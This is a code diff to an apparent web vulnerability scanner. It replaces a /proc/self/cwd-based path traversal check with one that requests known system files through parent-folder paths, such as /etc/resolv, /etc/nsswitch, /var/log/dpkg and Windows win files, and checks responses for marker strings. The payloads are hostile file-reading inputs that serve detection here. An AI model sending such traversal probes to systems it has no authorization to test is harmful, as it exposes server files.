@@ -212,47 +212,50 @@ static bool may_name_file(const struct scan_point *pt)
 	return pt->value.len <= 200 && str_to_i64(pt->value, &n) < 0;
 }
 
-/* Nothing famous can be read (a suffix is forced on, another account). Then the very file of
- * the page, reached through a way that leaves the folder: /proc/self/cwd is where the
- * program stands. The right way gives the same page, two wrong ways another; what keeps
- * inside its folder answers all three alike. */
-static bool try_triad(struct probe *p, const struct scan_point *pt)
+/* An ending is forced on the name: then a file with that ending which many systems have. The
+ * folder is left behind, so that what keeps inside of it cannot answer. */
+static bool try_endings(struct probe *p, const struct scan_point *pt)
 {
-	static const char *const folders[] = { "", "docs/", "files/", "pages/", "data/", "content/", "templates/", "static/",
-					       "uploads/", "include/", "includes/", "views/", "public/", "images/", "lang/",
-					       "inc/", "img/", "reports/", "download/", "downloads/" };
-	static const char *const ways[] = { UP "/proc/self/cwd/", "/proc/self/cwd/" };
-	struct diff_side base = diff_base(pt), dot, t, f, f2;
-	size_t n = probe_mode(p) == SCAN_DEEP ? ARRAY_SIZE(folders) : 10;
-	if (pt->base->status >= 400 || !probe_stable(p) || !diff_depends(p, &base))
-		return false;
-	if (diff_value(p, probe_printf(p, "./%.*s", STR_ARG(pt->value)), &dot) < 0 || !diff_same(p, &base, &dot))
-		return false;
-	for (size_t w = 0; w < ARRAY_SIZE(ways); w++)
-		for (size_t i = 0; i < n; i++) {
-			struct str there = probe_printf(p, "%s%s%.*s", ways[w], folders[i], STR_ARG(pt->value));
-			if (diff_value(p, there, &t) < 0)
-				return false;
-			if (!diff_same(p, &base, &t))
-				continue;
-			for (int k = 0; k < 2; k++)
-				if (diff_value(p, probe_printf(p, "%s%.*s/%s%.*s", w ? "/proc/self/" : UP "/proc/self/",
-							       STR_ARG(probe_word(p, 3 + (size_t)k)), folders[i], STR_ARG(pt->value)),
-					       k ? &f2 : &f) < 0)
-					return false;
-			if (diff_same(p, &base, &f) || !diff_same(p, &f, &f2) || !diff_confirmed(p, &base, &t, &f))
-				return false;
-			probe_report(p, &(struct scan_report){
-						.exchange = t.x,
-						.proof = t.sent,
-						.confidence_set = true,
-						.confidence = CONFIDENCE_CERTAIN,
-						.detail_zh = STR("经由上级目录与 /proc/self/cwd 到达同一文件，得到相同的页面；错误的路径得到另外的页面，打乱次序重现。"),
-						.detail_en = STR("The same file reached through parent folders and /proc/self/cwd gives the same "
-								 "page, wrong ways give another; repeated in mixed order."),
-					});
-			return true;
-		}
+	static const struct {
+		const char *path, *mark; /* without the ending */
+	} known[] = {
+		{ "/usr/share/perl/5.36/unicore/Blocks", "Basic Latin" },
+		{ "/usr/share/perl/5.36.0/unicore/Blocks", "Basic Latin" },
+		{ "/usr/lib/python3.11/LICENSE", "PYTHON SOFTWARE FOUNDATION" },
+		{ "/etc/host", "multi on" },
+		{ "/etc/resolv", "nameserver " },
+		{ "/etc/nsswitch", "Name Service Switch" },
+		{ "/etc/fonts/fonts", "<fontconfig>" },
+		{ "/usr/share/zoneinfo/zone1970", "Europe/" },
+		{ "/var/www/html/index", "<html" },
+		{ "/usr/share/nginx/html/index", "Welcome to nginx" },
+		{ "/var/log/dpkg", " status installed " },
+		{ "/usr/lib/python3.11/this", "Gur Mra bs Clguba" },
+		{ "/windows/win", "for 16-bit app support" },
+		{ "/usr/share/mime/packages/freedesktop.org", "<mime-info" },
+	};
+	const struct scan_exchange *x, *y;
+	for (size_t i = 0; i < ARRAY_SIZE(known); i++) {
+		struct str mark = str_c(known[i].mark);
+		if (probe_value(p, probe_printf(p, UP "%s", known[i].path), &x) < 0)
+			return false;
+		struct str proof = active_find(x, mark);
+		if (!proof.ptr || active_find(pt->base, mark).ptr)
+			continue;
+		if (probe_value(p, probe_printf(p, UP "%s%.*s", known[i].path, STR_ARG(probe_word(p, 4))), &y) < 0 ||
+		    active_find(y, mark).ptr)
+			continue;
+		probe_report(p, &(struct scan_report){
+					.exchange = x,
+					.proof = proof,
+					.confidence_set = true,
+					.confidence = CONFIDENCE_CERTAIN,
+					.detail_zh = STR("经由上级目录读到了系统中一个同样扩展名的已知文件；换一个名字则读不到。"),
+					.detail_en = STR("A known file of the system with the same ending was read through parent folders; under "
+							 "another name it is not."),
+				});
+		return true;
+	}
 	return false;
 }
 
@@ -274,8 +277,10 @@ static void probe_file(struct probe *p, const struct scan_point *pt)
 	if (!may_name_file(pt) || probe_reported(p) || str_empty(pt->value))
 		return;
 	try_filter(p, pt);
-	if (!probe_reported(p) && pt->value.len < 100)
-		try_triad(p, pt);
+	struct diff_side base = diff_base(pt);
+	if (!probe_reported(p) && pt->value.len < 100 && str_chr(pt->value, '.') < 0 && file_like(pt->name) &&
+	    diff_depends(p, &base))
+		try_endings(p, pt);
 }
 
 const struct scan_check check_path_traversal = {
